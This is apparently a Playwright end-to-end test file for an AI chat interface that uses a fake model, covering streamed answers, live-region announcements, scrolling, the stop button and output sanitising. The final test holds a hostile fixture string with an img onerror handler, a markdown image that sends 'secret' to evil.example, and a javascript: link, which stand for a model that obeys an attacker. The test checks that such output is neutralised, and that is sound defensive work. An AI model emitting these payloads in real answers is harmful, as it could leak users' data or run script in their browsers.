// Streamed answers from a fake language model: shown, announced, stopped, and safe.
import type { Page } from "playwright-core";
import { afterAll } from "vitest";
import { startFakeModel, supported } from "../test/fake-model.ts";
import { expectAccessible } from "./axe.ts";
import {
  begin,
  boxOf,
  distanceOf,
  input,
  list,
  messages,
  openChat,
  sendButton,
  settled,
  start,
  stopButton,
} from "./chat-page.ts";
import { expect, testWith } from "./test.ts";
import { nextFrames } from "./visitor.ts";

const question = "How long does a project take?";
const sentences = supported(24);
const slowly = { kind: "say", pieces: sentences.join("").match(/\S+\s*/g) ?? [], pauseMs: 15 } as const;
/** An answer that takes two minutes. */
const endlessly = { kind: "say", pieces: supported(600), pauseMs: 200 } as const;

const model = await startFakeModel();
afterAll(() => model.close());

const test = testWith({ AI_BASE_URL: model.url, AI_MODEL: "fake-1", AI_ANSWER_SECONDS: "60" });

test("[CHAT-28] [A17] [A19] streams an answer without moving a reader who scrolled up, and announces a sentence every 2 s at most", async ({
  page,
}) => {
  const { promise: until, resolve: finish } = Promise.withResolvers<void>();
  model.behave({ ...slowly, until });
  await openChat(page);
  await begin(page);
  await page.evaluate(() => {
    const texts: { at: number; text: string }[] = [];
    Object.assign(globalThis, { heard: { said: texts, begunAt: performance.now() } });
    const log = document.querySelector('[role="log"]');
    if (!log || log.getAttribute("aria-live") !== "polite") throw new Error("There is no polite log.");
    new MutationObserver((changes) => {
      for (const { addedNodes } of changes)
        for (const node of addedNodes) texts.push({ at: performance.now(), text: node.textContent ?? "" });
    }).observe(log, { childList: true, subtree: true });
  });
  await input(page).fill(question);
  await input(page).press("Enter");
  await messages(page, "assistant").getByText("In case a a pilot").waitFor();
  const early = (await messages(page, "assistant").innerText()).length;
  await expect
    .poll(async () => [
      await input(page).isDisabled(),
      await sendButton(page).isDisabled(),
      await stopButton(page).isVisible(),
    ])
    .toEqual([true, true, true]);
  await expect.poll(() => list(page).getAttribute("aria-busy")).toBe("true");
  await expectAccessible(page, "streaming", "main");
  finish();
  await messages(page, "assistant").getByText("In case x a pilot").waitFor();
  await settled(page, 1);
  await expect.poll(async () => (await messages(page, "assistant").innerText()).length).toBeGreaterThan(early);
  await expect
    .poll(() =>
      page.evaluate(() =>
        (Object(globalThis).heard.said as { text: string }[]).some(({ text }) => text.includes("In case x a pilot")),
      ),
    )
    .toBe(true);
  const { said, begunAt } = await page.evaluate(
    () => Object(globalThis).heard as { said: { at: number; text: string }[]; begunAt: number },
  );
  expect(said.length).toBeGreaterThan(2);
  for (const [index, { at, text }] of said.entries()) {
    // From before the question: a browser that draws one late draws it nearer to the next.
    expect(at - begunAt).toBeGreaterThanOrEqual(index * 2000);
    expect(text).toMatch(/^(The assistant is writing|(In case [a-x] a pilot takes [^.]+\. ?)+)$/);
  }
  // Again, and the reader goes up while it grows.
  await input(page).fill(question);
  await input(page).press("Enter");
  await messages(page, "assistant").nth(1).getByText("In case b a pilot").waitFor();
  await list(page).hover();
  await page.mouse.wheel(0, -120);
  const topOf = () => list(page).evaluate((element) => element.scrollTop);
  let top = await topOf();
  const isStill = async () => {
    await nextFrames(page); // it may scroll smoothly
    const before = top;
    top = await topOf();
    return top === before && (await distanceOf(list(page))) > 50;
  };
  await expect.poll(isStill).toBe(true);
  await messages(page, "assistant").nth(1).getByText("In case t a pilot").waitFor();
  expect(await topOf()).toBe(top);
  await messages(page, "assistant").nth(1).getByText("In case x a pilot").waitFor();
  await settled(page, 2);
  expect(await topOf()).toBe(top);
});

test.for([
  { viewport: { width: 390, height: 844 }, reducedMotion: "no-preference" },
  { viewport: { width: 390, height: 844 }, reducedMotion: "reduce" },
  { viewport: { width: 1366, height: 657 }, reducedMotion: "no-preference" },
  { viewport: { width: 1366, height: 657 }, reducedMotion: "reduce" },
] as const)(
  "[ANSW-01] [CHAT-37] a question stays at the top while its answer grows: $viewport, motion $reducedMotion",
  async (screen, { openPage }) => {
    model.behave(slowly);
    const page = await openPage(screen);
    await openChat(page);
    await begin(page);
    /** Returns where the last question and its answer begin, in px below the list's top. */
    const places = async () => {
      const [view, questionBox, answer] = [
        await boxOf(list(page)),
        await boxOf(messages(page, "user").last()),
        await boxOf(messages(page, "assistant").last()),
      ];
      return { asked: Math.round(questionBox.top - view.top), answer: Math.round(answer.top - view.top) };
    };
    for (const place of [0, 1]) {
      await input(page).fill(question);
      await input(page).press("Enter");
      await messages(page, "assistant").nth(place).getByText("In case b a pilot").waitFor();
      let early = await places();
      const isPlaced = async () => {
        const before = early;
        await nextFrames(page); // it may scroll smoothly
        early = await places();
        const isStill = early.asked === before.asked && early.answer === before.answer;
        return isStill && early.asked >= 0 && early.asked <= 30 && early.answer <= 110;
      };
      await expect.poll(isPlaced).toBe(true);
      await settled(page, place + 1);
      await expect.poll(() => distanceOf(list(page))).toBeGreaterThan(150);
      expect(await places()).toEqual(early);
    }
    await page.reload();
    await expect.poll(() => messages(page, "assistant").count()).toBe(2);
    await expect.poll(() => distanceOf(list(page))).toBeLessThanOrEqual(4);
  },
);

test("the stop button ends an answer and keeps its text; leaving the page ends it, too", async ({ page }) => {
  model.behave(endlessly);
  await openChat(page);
  await begin(page);
  await input(page).fill(question);
  await input(page).press("Enter");
  await messages(page, "assistant").getByText("In case c a pilot").waitFor();
  await stopButton(page).click();
  await expect.poll(() => model.open()).toBe(0);
  await settled(page, 1);
  await expect.poll(() => page.locator('[data-slot="toast"]').count()).toBe(0);
  await page.reload();
  await messages(page, "assistant").getByText("In case b a pilot").waitFor();
  await expect.poll(() => messages(page, "assistant").innerText()).not.toContain("In case xb a pilot");
  await input(page).fill(question);
  await input(page).press("Enter");
  await messages(page, "assistant").nth(1).getByText("In case a a pilot").waitFor();
  await expect.poll(() => model.open()).toBe(1);
  await page.getByRole("link", { name: "About", exact: true }).first().click();
  await expect.poll(() => model.open()).toBe(0);
});

const hostile =
  'Yes. <img src="https://evil.example/a.png" onerror="document.title=1"> ![x](https://evil.example/?q=secret) [click](https://evil.example/) [run](javascript:alert(1)) [go](//evil.example) [tell](mailto:evil@evil.example) **[bold](https://evil.example)** [prices](/faq) [1]';

/** Expects the answer to contain nothing but links to our own pages. Requests are checked on every page. */
async function expectHarmless(page: Page) {
  const answer = messages(page, "assistant");
  await expect.poll(() => answer.locator("img, iframe, script, style, form").count()).toBe(0);
  const hrefs = await answer.locator("a").evaluateAll((all) => all.map((link) => link.getAttribute("href") ?? ""));
  expect(hrefs.filter((href) => !/^\/(?![/\\])/.test(href))).toEqual([]);
  await expect.poll(() => page.title()).toMatch(/^AI Assistant/);
}

test("[P2] a model that obeys an attacker can't put HTML, pictures or foreign links on the page", async ({ page }) => {
  model.behave({ kind: "say", pieces: hostile.match(/[\s\S]{1,9}/g) ?? [], pauseMs: 5 });
  await openChat(page);
  await begin(page);
  await input(page).fill(question);
  await input(page).press("Enter");
  await settled(page, 1);
  await expectHarmless(page);

  const reply = { id: "m", conversationId: "c", role: "assistant", content: hostile, createdAt: "" };
  const sources = [
    { title: "Elsewhere", href: "https://evil.example/" },
    { title: "Questions", href: "/faq" },
  ];
  await page.route("**/messages", (route) => route.fulfill({ json: [{ ...reply, sources }] }));
  await start(page).click();
  await expect.poll(() => messages(page, "assistant").innerText()).toContain("<img src=");
  await expectHarmless(page);
  await expect
    .poll(() => messages(page, "assistant").getByRole("link", { name: "prices" }).getAttribute("href"))
    .toBe("/faq");
});
